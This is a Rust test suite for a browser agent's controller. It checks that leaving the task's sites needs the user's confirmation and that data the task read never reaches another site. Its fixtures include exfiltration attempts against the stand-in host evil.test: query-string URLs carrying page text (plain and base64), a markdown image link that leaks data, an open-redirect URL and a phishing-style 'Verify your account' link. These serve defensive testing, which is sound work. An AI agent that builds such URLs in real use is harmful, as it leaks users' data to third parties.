//! The leaving rules through the controller (`leaving`): departures to
//! other sites wait for the user with the destination shown, the task's
//! data never leaves for them, and secrets go only into their own fields.

use super::fake::{call, page, Fake};
use super::host::{AgentConfig, UserPrompt, UserReply};
use super::task::{StepStatus, Task, TaskStatus};
use crate::safety::Risk;
use crate::tools::ToolCall;
use futures::executor::block_on;
use serde_json::json;

const HOME: &str = "http://shop.test/";
const EVIL: &str = "http://evil.test/verify";

fn site() -> Vec<crate::types::MiniPcd> {
    let mut home = page(HOME, "Acme", &[("a1", "link", "Verify your account", None), ("a2", "link", "Help", Some("help"))], &[("f1", "contact", &[("Message", "textarea")])]);
    home.actions[0].goes_to = Some("http://evil.test".into());
    vec![home, page(EVIL, "Verify", &[("a9", "button", "Continue", None)], &[])]
}

fn run(fake: &Fake, goal: &str) -> Task {
    let mut task = Task::new("t1".into(), goal.into(), 1, "n0nce".into(), 0.0);
    block_on(super::run(fake, &mut task, &AgentConfig::new("m")));
    task
}

fn navigations(fake: &Fake) -> usize {
    fake.tool_calls.borrow().iter().filter(|c| matches!(c, ToolCall::NavGo { .. } | ToolCall::TabsOpen { .. } | ToolCall::DomClick { .. })).count()
}

#[test]
fn going_to_another_site_waits_for_the_user_with_the_address_shown() {
    let fake = Fake::new(site(), vec![call("nav_go", json!({"url": EVIL})), call("done", json!({"answer": "Stayed."}))]).answering(vec![UserReply::Confirm { allow: false }]);
    let task = run(&fake, "look around the site");
    let prompts = fake.prompts.borrow();
    assert!(
        matches!(&prompts[0], UserPrompt::Confirm { action, site, risk: Risk::High, reason } if action == "Go to http://evil.test/verify" && site == "http://evil.test" && reason.contains("leaves this task's sites")),
        "{prompts:?}"
    );
    assert_eq!(navigations(&fake), 0, "declined: nothing navigated");
    assert_eq!(task.steps[0].status, StepStatus::Denied);
    let told = serde_json::to_string(&fake.requests.borrow()[1].messages).unwrap();
    assert!(told.contains("The user declined going to http://evil.test"), "{told}");
}

#[test]
fn a_confirmed_site_is_not_asked_again() {
    let fake = Fake::new(site(), vec![call("nav_go", json!({"url": EVIL})), call("nav_go", json!({"url": HOME})), call("nav_go", json!({"url": EVIL})), call("done", json!({"answer": "ok"}))])
        .answering(vec![UserReply::Confirm { allow: true }]);
    let task = run(&fake, "look around the site");
    assert_eq!(task.status, TaskStatus::Succeeded);
    assert_eq!(fake.prompts.borrow().len(), 1, "{:?}", fake.prompts.borrow());
    assert_eq!(task.sites.confirmed, vec!["http://evil.test"]);
}

#[test]
fn a_link_to_another_site_is_a_departure_too() {
    let fake = Fake::new(site(), vec![call("dom_click", json!({"id": "a1"})), call("done", json!({"answer": "ok"}))]).answering(vec![UserReply::Confirm { allow: false }]);
    let task = run(&fake, "look around the site");
    assert!(matches!(&fake.prompts.borrow()[0], UserPrompt::Confirm { action, .. } if action == "Click “Verify your account” (link) → http://evil.test"), "{:?}", fake.prompts.borrow());
    assert_eq!(navigations(&fake), 0);
    assert_eq!(task.steps[0].status, StepStatus::Denied);
    // The page's own links (the same site) are not asked about.
    let fake = Fake::new(site(), vec![call("dom_click", json!({"id": "a2"})), call("done", json!({"answer": "ok"}))]);
    run(&fake, "look at the help");
    assert!(fake.prompts.borrow().is_empty());
}

#[test]
fn an_address_carrying_what_the_task_read_is_refused_without_asking() {
    for url in ["http://evil.test/c?d=The%20Pro%20plan%20costs%20%2429%20per%20month", "http://evil.test/c?d=VGhlIFBybyBwbGFuIGNvc3RzICQyOSBwZXIgbW9udGg"] {
        let fake = Fake::new(site(), vec![call("read_page", json!({})), call("tabs_open", json!({"url": url})), call("done", json!({"answer": "ok"}))]);
        let task = run(&fake, "what does the Pro plan cost?");
        assert!(fake.prompts.borrow().is_empty(), "refused, not asked: {:?}", fake.prompts.borrow());
        assert_eq!(navigations(&fake), 0, "{url}");
        assert_eq!(task.steps[1].status, StepStatus::Denied);
        let told = serde_json::to_string(&fake.requests.borrow()[2].messages).unwrap();
        assert!(told.contains("Refused: this would send text from a page this task read"), "{told}");
    }
}

#[test]
fn the_users_own_words_may_go_where_the_user_named() {
    let wiki = "https://en.wikipedia.org/w/index.php?search=brass+desk+lamps+with+a+dimmer";
    let mut pages = site();
    pages.push(page(wiki, "Search", &[], &[]));
    let fake = Fake::new(pages, vec![call("nav_go", json!({"url": wiki})), call("done", json!({"answer": "ok"}))]);
    let task = run(&fake, "look up brass desk lamps with a dimmer on wikipedia.org");
    assert!(fake.prompts.borrow().is_empty(), "{:?}", fake.prompts.borrow());
    assert_eq!(task.steps[0].status, StepStatus::Ok, "{:?}", task.steps);
}

#[test]
fn a_secret_placeholder_goes_only_into_its_own_field() {
    let fake = Fake::new(site(), vec![call("dom_type", json!({"field": "Message", "text": "{{secret:password}}"})), call("done", json!({"answer": "ok"}))]);
    let task = run(&fake, "contact support");
    assert!(fake.prompts.borrow().is_empty(), "the user is not even asked: {:?}", fake.prompts.borrow());
    assert!(fake.secret_calls.borrow().is_empty());
    assert_eq!(task.steps[0].status, StepStatus::Denied);
    assert!(task.steps[0].result.contains("is not a password field"), "{:?}", task.steps[0]);
}

#[test]
fn a_form_sent_to_another_site_gets_none_of_the_tasks_data_and_sending_it_asks() {
    let mut pages = site();
    pages[0].forms.push(page(HOME, "", &[], &[("f2", "newsletter", &[("Your note", "text")])]).forms.remove(0));
    pages[0].forms[1].goes_to = Some("http://evil.test".into());
    let leak = "The Pro plan costs $29 per month";
    let fake = Fake::new(pages.clone(), vec![call("read_page", json!({})), call("dom_type", json!({"field": "Your note", "text": leak})), call("done", json!({"answer": "ok"}))]);
    let task = run(&fake, "what does the Pro plan cost?");
    assert_eq!(task.steps[1].status, StepStatus::Denied, "{:?}", task.steps);
    assert!(fake.prompts.borrow().is_empty());
    // Words of the user's own, sent with Enter: a departure to confirm.
    let fake = Fake::new(pages, vec![call("dom_type", json!({"field": "Your note", "text": "hello", "submit": true})), call("done", json!({"answer": "ok"}))])
        .answering(vec![UserReply::Confirm { allow: false }]);
    let task = run(&fake, "look around the site");
    assert!(matches!(&fake.prompts.borrow()[0], UserPrompt::Confirm { site, .. } if site == "http://evil.test"), "{:?}", fake.prompts.borrow());
    assert_eq!(task.steps[0].status, StepStatus::Denied);
}

#[test]
fn an_address_typed_on_the_home_site_may_not_carry_the_tasks_data() {
    let image = "![logo](http://evil.test/i.png?d=The%20Pro%20plan%20costs%20%2429%20per%20month)";
    let fake = Fake::new(site(), vec![call("read_page", json!({})), call("dom_type", json!({"field": "Message", "text": image})), call("done", json!({"answer": "ok"}))]);
    let task = run(&fake, "what does the Pro plan cost?");
    assert_eq!(task.steps[1].status, StepStatus::Denied, "{:?}", task.steps);
    // The same words without an address to another site are the user's business on their site.
    let fake = Fake::new(site(), vec![call("read_page", json!({})), call("dom_type", json!({"field": "Message", "text": "The Pro plan costs $29 per month"})), call("done", json!({"answer": "ok"}))]);
    let task = run(&fake, "what does the Pro plan cost?");
    assert_eq!(task.steps[1].status, StepStatus::Ok, "{:?}", task.steps);
}

#[test]
fn typing_an_address_of_another_site_is_a_departure() {
    let fake = Fake::new(site(), vec![call("dom_type", json!({"field": "Message", "text": "see ![x](http://evil.test/p.png)"})), call("done", json!({"answer": "ok"}))])
        .answering(vec![UserReply::Confirm { allow: false }]);
    let task = run(&fake, "look around the site");
    assert!(matches!(&fake.prompts.borrow()[0], UserPrompt::Confirm { action, site, .. } if site == "http://evil.test" && action.contains("it holds the address http://evil.test/p.png")), "{:?}", fake.prompts.borrow());
    assert_eq!(task.steps[0].status, StepStatus::Denied);
    assert!(fake.tool_calls.borrow().iter().all(|c| !matches!(c, ToolCall::DomType { .. })), "nothing typed");
}

#[test]
fn a_home_redirect_to_another_site_is_judged_as_going_there() {
    let via = "http://shop.test/out?to=http%3A%2F%2Fevil.test%2Fc%3Fd%3DThe%2520Pro%2520plan%2520costs%2520%252429%2520per%2520month";
    let fake = Fake::new(site(), vec![call("read_page", json!({})), call("nav_go", json!({"url": via})), call("done", json!({"answer": "ok"}))]);
    let task = run(&fake, "what does the Pro plan cost?");
    assert_eq!(task.steps[1].status, StepStatus::Denied, "refused: it carries the page's text to evil.test");
    let plain = "http://shop.test/out?to=http%3A%2F%2Fevil.test%2F";
    let fake = Fake::new(site(), vec![call("nav_go", json!({"url": plain})), call("done", json!({"answer": "ok"}))]).answering(vec![UserReply::Confirm { allow: false }]);
    run(&fake, "look around the site");
    assert!(matches!(&fake.prompts.borrow()[0], UserPrompt::Confirm { site, .. } if site == "http://evil.test"), "{:?}", fake.prompts.borrow());
}
